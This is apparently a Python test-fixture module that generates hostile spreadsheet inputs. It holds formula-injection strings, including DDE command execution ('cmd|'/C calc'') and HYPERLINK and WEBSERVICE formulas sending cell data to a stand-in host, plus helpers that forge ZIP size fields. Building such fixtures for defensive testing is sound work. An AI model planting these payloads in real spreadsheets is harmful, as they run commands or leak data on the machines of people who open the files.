"""攻击内容 - Tables with something in them that no table needs: formulas as text, macros, bombs, links, lies about sizes."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

import xlsxwriter

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://203.0.113.1/?x="&A1,"点这里")',
    "http://203.0.113.1/",
    '=WEBSERVICE("http://203.0.113.1/")',
    "0001",
    "1e5",
)
"""像公式的文字 - What spreadsheet programs would run, follow or change if it were not kept as text."""


def workbook(write: Callable[[xlsxwriter.Workbook], None]) -> bytes:
    """Return a workbook that something writes into; text that begins with = becomes a formula here, as in any Excel."""
    kept = io.BytesIO()
    book = xlsxwriter.Workbook(kept, {"in_memory": True})
    write(book)
    book.close()
    return kept.getvalue()


def plain(*rows: tuple[object, ...]) -> bytes:
    """Return a workbook with these rows, text as text."""

    def _write(book: xlsxwriter.Workbook) -> None:
        sheet = book.add_worksheet("表")
        for number, row in enumerate(rows):
            for at, value in enumerate(row):
                if isinstance(value, str):
                    sheet.write_string(number, at, value)
                else:
                    sheet.write(number, at, value)

    return workbook(_write)


def packed(parts: Mapping[str, bytes], base: bytes | None = None) -> bytes:
    """Return a package with these parts added to, or put in the place of, those of another."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as made:
        if base is not None:
            with zipfile.ZipFile(io.BytesIO(base)) as old:
                for info in old.infolist():
                    if info.filename not in parts:
                        made.writestr(info, old.read(info))
        for name, data in parts.items():
            made.writestr(name, data)
    return kept.getvalue()


def with_size(data: bytes, name: str, size: int) -> bytes:
    """Return a package whose directory lies about the size of a part."""
    changed = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(name)
    changed[info.header_offset + 22 : info.header_offset + 26] = size.to_bytes(4, "little")
    at = changed.find(b"PK\x01\x02")
    while at != -1:
        length = int.from_bytes(changed[at + 28 : at + 30], "little")
        if changed[at + 46 : at + 46 + length] == name.encode():
            changed[at + 24 : at + 28] = size.to_bytes(4, "little")
        at = changed.find(b"PK\x01\x02", at + 4)
    return bytes(changed)


def old_workbook(*rows: tuple[str | float, ...]) -> bytes:
    """Return an xls with these rows: the records of BIFF8 in a compound file, as Excel 97 to 2003 wrote it."""
    cells = b"".join(
        _record(0x0204, _cell(number, at) + struct.pack("<HB", len(value), 1) + value.encode("utf-16-le"))
        if isinstance(value, str)
        else _record(0x0203, _cell(number, at) + struct.pack("<d", value))
        for number, row in enumerate(rows)
        for at, value in enumerate(row)
    )
    title = "表".encode("utf-16-le")
    opening = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0, 1996, 0, 6)) + _record(0x0042, struct.pack("<H", 1200))
    start = len(opening) + 4 + 8 + len(title) + 4
    whole = opening + _record(0x0085, struct.pack("<IBBBB", start, 0, 0, 1, 1) + title) + _record(0x000A, b"")
    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 1996, 0, 6)) + cells + _record(0x000A, b"")
    return _compound((whole + sheet).ljust(4096, b"\x00"))


def _record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def _cell(row: int, column: int) -> bytes:
    return struct.pack("<HHH", row, column, 0)


def _compound(stream: bytes) -> bytes:
    """Return a compound file with one stream, named Workbook."""
    sectors = -(-len(stream) // 512)
    free, end, table = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    fields = (0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 4096, end, 0, end, 0)
    head = struct.pack("<8s16sHHHHH6xIII4xIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"", *fields)
    head += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    chain = [table, end, *range(3, 2 + sectors), end]
    fat = b"".join(struct.pack("<I", each) for each in chain).ljust(512, b"\xff")
    root = _entry("Root Entry", 5, free, 1, end, 0)
    return (
        head + fat + (root + _entry("Workbook", 2, free, free, 2, len(stream))).ljust(512, b"\x00") + stream.ljust(512 * sectors, b"\x00")
    )


def _entry(name: str, kind: int, sibling: int, child: int, start: int, size: int) -> bytes:
    text = name.encode("utf-16-le") + b"\x00\x00"
    return struct.pack("<64sHBBIII16sI8s8sIQ", text, len(text), kind, 1, sibling, sibling, child, b"", 0, b"", b"", start, size)
